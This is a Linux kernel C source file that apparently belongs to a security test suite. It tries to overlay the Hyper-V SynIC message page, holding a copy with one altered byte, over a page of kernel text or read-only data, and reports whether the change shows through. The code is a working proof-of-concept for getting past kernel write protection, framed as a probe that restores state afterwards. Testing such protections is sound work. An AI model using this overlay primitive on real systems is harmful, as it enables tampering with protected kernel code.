// SPDX-License-Identifier: GPL-2.0-only
/* Moves an overlay page with chosen data, the SynIC's message page of this CPU, over a page of the kernel.
 * RAM is unchanged, but all CPUs see the overlay. */
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <asm/msr.h>

#include "attack.h"

#define MSR_SIMP    0x40000083
#define PAGE_ENABLE 1

/* One byte of the copy is changed, so that the kernel continues to run. */
static bool cover(const u8 *seen, struct attack_report *report)
{
	const u8 *page = (const u8 *)((unsigned long)seen & PAGE_MASK);
	u8 *own = (u8 *)get_zeroed_page(GFP_KERNEL);
	const u8 old = READ_ONCE(*seen);
	unsigned long flags;
	bool through = false;
	u64 before;

	if (!own || rdmsrl_safe(MSR_SIMP, &before)) {
		attack_report(report, "no page, or no SynIC");
		free_page((unsigned long)own);
		return false;
	}
	local_irq_save(flags);
	if (wrmsrl_safe(MSR_SIMP, virt_to_phys(own) | PAGE_ENABLE)) {
		attack_report(report, "#GP at the WRMSR for a page of the attacker's own");
	} else {
		memcpy(own, page, PAGE_SIZE);
		own[offset_in_page(seen)] = old ^ 1;
		if (wrmsrl_safe(MSR_SIMP, __pa_symbol((unsigned long)page) | PAGE_ENABLE)) {
			attack_report(report, "#GP at the WRMSR that moves it there");
		} else {
			through = READ_ONCE(*seen) != old;
			attack_report(report, "the byte %s",
				      through ? "changed" : "stayed as it was");
		}
		memset(own, 0, PAGE_SIZE);
		wrmsrl_safe(MSR_SIMP, before);
	}
	local_irq_restore(flags);
	free_page((unsigned long)own);
	return through;
}

bool attack_cover_text(struct attack_report *report)
{
	return cover((const u8 *)attack_text, report);
}

bool attack_cover_rodata(struct attack_report *report)
{
	return cover((const u8 *)attack_rodata, report);
}
